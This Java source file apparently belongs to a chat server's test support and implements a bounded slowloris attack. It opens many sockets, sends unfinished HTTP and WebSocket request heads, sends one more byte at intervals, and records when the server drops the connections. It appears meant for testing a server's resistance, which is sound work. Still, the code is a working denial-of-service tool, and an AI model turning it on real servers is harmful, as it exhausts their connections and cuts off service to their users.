package io.kubechat.pod.support;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The slowloris attack, bounded: {@code count} connections that each start a request head (every
 * fourth a WebSocket upgrade, every tenth sends nothing at all, as a half-open connection) and then
 * dribble one more header byte every {@code dribbleMs}, never finishing the head. One thread,
 * non-blocking sockets; it stops when the server has closed every connection or at {@code
 * deadlineMs}, and closes whatever is left.
 */
public final class Slowloris {
  /**
   * What happened: connections opened (all of them open {@code allOpenMs} after the start), how
   * many the server closed, and when the last one was (ms after the start).
   */
  public record Result(
      int opened, long allOpenMs, int closedByServer, long lastCloseMs, long elapsedMs) {}

  private Slowloris() {}

  public static Result run(String host, int port, int count, long dribbleMs, long deadlineMs)
      throws IOException, InterruptedException {
    long start = System.nanoTime();
    List<SocketChannel> open = new ArrayList<>();
    List<Boolean> silent = new ArrayList<>();
    try {
      for (int i = 0; i < count; i++) {
        SocketChannel ch = SocketChannel.open(new InetSocketAddress(host, port));
        ch.configureBlocking(false);
        boolean quiet = i % 10 == 9;
        if (!quiet) {
          String head =
              i % 4 == 0
                  ? "GET /ws HTTP/1.1\r\nHost: " + host + "\r\nUpgrade: websocket\r\nX-a: "
                  : "GET / HTTP/1.1\r\nHost: " + host + "\r\nX-a: ";
          ch.write(ByteBuffer.wrap(head.getBytes(StandardCharsets.US_ASCII)));
        }
        open.add(ch);
        silent.add(quiet);
      }
      long allOpen = elapsedMs(start);
      int closed = 0;
      long lastClose = 0;
      ByteBuffer sink = ByteBuffer.allocate(4096);
      ByteBuffer oneByte = ByteBuffer.allocate(1);
      long nextDribble = System.nanoTime();
      while (closed < count && elapsedMs(start) < deadlineMs) {
        boolean dribble = System.nanoTime() >= nextDribble;
        if (dribble) {
          nextDribble = System.nanoTime() + dribbleMs * 1_000_000;
        }
        for (int i = 0; i < open.size(); i++) {
          SocketChannel ch = open.get(i);
          if (ch == null) {
            continue;
          }
          boolean gone;
          try {
            sink.clear();
            gone = ch.read(sink) < 0;
            if (!gone && dribble && !silent.get(i)) {
              oneByte.clear();
              oneByte.put((byte) 'a').flip();
              ch.write(oneByte);
            }
          } catch (IOException e) {
            gone = true; // reset by the server
          }
          if (gone) {
            ch.close();
            open.set(i, null);
            closed++;
            lastClose = elapsedMs(start);
          }
        }
        Thread.sleep(20);
      }
      return new Result(count, allOpen, closed, lastClose, elapsedMs(start));
    } finally {
      for (SocketChannel ch : open) {
        if (ch != null) {
          ch.close();
        }
      }
    }
  }

  private static long elapsedMs(long startNanos) {
    return (System.nanoTime() - startNanos) / 1_000_000;
  }
}
